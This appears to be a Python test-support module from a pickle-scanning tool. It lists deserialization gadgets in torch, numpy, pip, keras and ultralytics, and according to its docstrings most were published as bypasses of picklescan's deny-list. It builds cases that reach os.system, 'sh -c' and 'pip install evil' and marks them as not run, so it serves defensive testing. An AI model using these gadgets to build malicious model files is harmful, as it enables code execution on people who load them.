"""Payloads in the frameworks' own libraries and in pip: what runs them is not installed where the unit tests run."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial
from pathlib import Path

from support.hostile.assembler import Call, Name
from support.hostile.case import PICKLESCAN, Hostile, gadget, python, shell


def gadgets() -> Iterator[Hostile]:
    """Most were published as bypasses of picklescan, whose deny-list named neither module nor function."""
    for dotted in (
        "torch.load",
        "torch.serialization.load",
        "torch.jit.load",
        "torch.package.PackageImporter",
        "torch.storage._load_from_bytes",
        "torch.hub.load_state_dict_from_url",
        "torch.utils.data.datapipes.utils.decoder.basichandlers",
        "numpy.load",
        "joblib.load",
        "dill.loads",
        "pandas.read_pickle",
    ):
        yield _named(dotted, "https://example.com/next.pt")
    for dotted in (
        "torch.utils.collect_env.run",
        "torch.utils.collect_env.run_and_read_all",
        "torch.utils.bottleneck.__main__.run_cprofile",
        "torch.utils.bottleneck.__main__.run_autograd_prof",
        "torch.jit.unsupported_tensor_ops.execWrapper",
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
        "torch._dynamo.guards.GuardBuilder.get",
        "torch.utils._config_module.ConfigModule.load_config",
        "torch.distributed.rpc.internal._InternalRPCPickler.deserialize",
        "numpy.testing._private.utils.runstring",
        "numpy.f2py.crackfortran.getlincoef",
        "numpy.ctypeslib.load_library",
        "cloudpickle.cloudpickle._make_function",
        "dill._dill._create_function",
    ):
        yield gadget(dotted, partial(_evaluated, dotted), runs=False, source=PICKLESCAN)
    yield gadget("torch.hub.load", lambda c: Name("torch.hub", "load")("owner/repository", "model", True), runs=False)
    yield gadget(
        "torch._inductor.codecache.compile_file",
        lambda c: Name("torch._inductor.codecache", "compile_file")("", "", ["sh", "-c", shell(c)]),
        runs=False,
        source=PICKLESCAN,
    )
    for dotted in ("pip.main", "pip._internal.main", "pip._internal.cli.main.main", "ensurepip._run_pip"):
        yield _named(dotted, ["install", "evil"], "GHSA-655q-fx9r-782v")
    yield gadget("numpy's frombuffer of objects", lambda c: Name("numpy", "frombuffer")(b"12345678", "O"), runs=False)
    yield gadget(
        "numpy.ndarray, which unpickles", lambda c: Name("numpy.core.multiarray", "_reconstruct")(), runs=False
    )
    yield gadget("nt.system of Windows", lambda c: Name("nt", "system")(shell(c)), runs=False)
    yield gadget("keras' Lambda", lambda c: Name("keras.layers", "Lambda")(python(c)), runs=False)
    # Dotted, it reaches everything that any module under torch has imported.
    yield gadget(
        "os.system through torch",
        lambda c: Name("torch", "nn.modules.module.os.system")(shell(c)),
        protocol=4,
        runs=False,
    )
    yield gadget(
        "os.system through an allowed module",
        lambda c: Name("torch._utils", "sys.modules")(shell(c)),
        protocol=4,
        runs=False,
    )
    yield gadget(
        "a function beside allowed ones", lambda c: Name("torch._utils", "_import_dotted_name")("os"), runs=False
    )
    yield gadget(
        "a function in a module of allowed classes",
        lambda c: Name("ultralytics.nn.tasks", "torch_safe_load")("next.pt"),
        runs=False,
    )
    yield gadget(
        "a function of ultralytics that runs commands",
        lambda c: Name("ultralytics.utils.checks", "check_requirements")("evil"),
        runs=False,
    )


def _evaluated(dotted: str, canary: Path) -> Call:
    module, _, name = dotted.rpartition(".")
    return Name(module, name)(python(canary), {})


def _named(dotted: str, argument: object, advisory: str = "") -> Hostile:
    module, _, name = dotted.rpartition(".")
    return gadget(dotted, lambda _: Name(module, name)(argument), runs=False, source=PICKLESCAN + advisory)
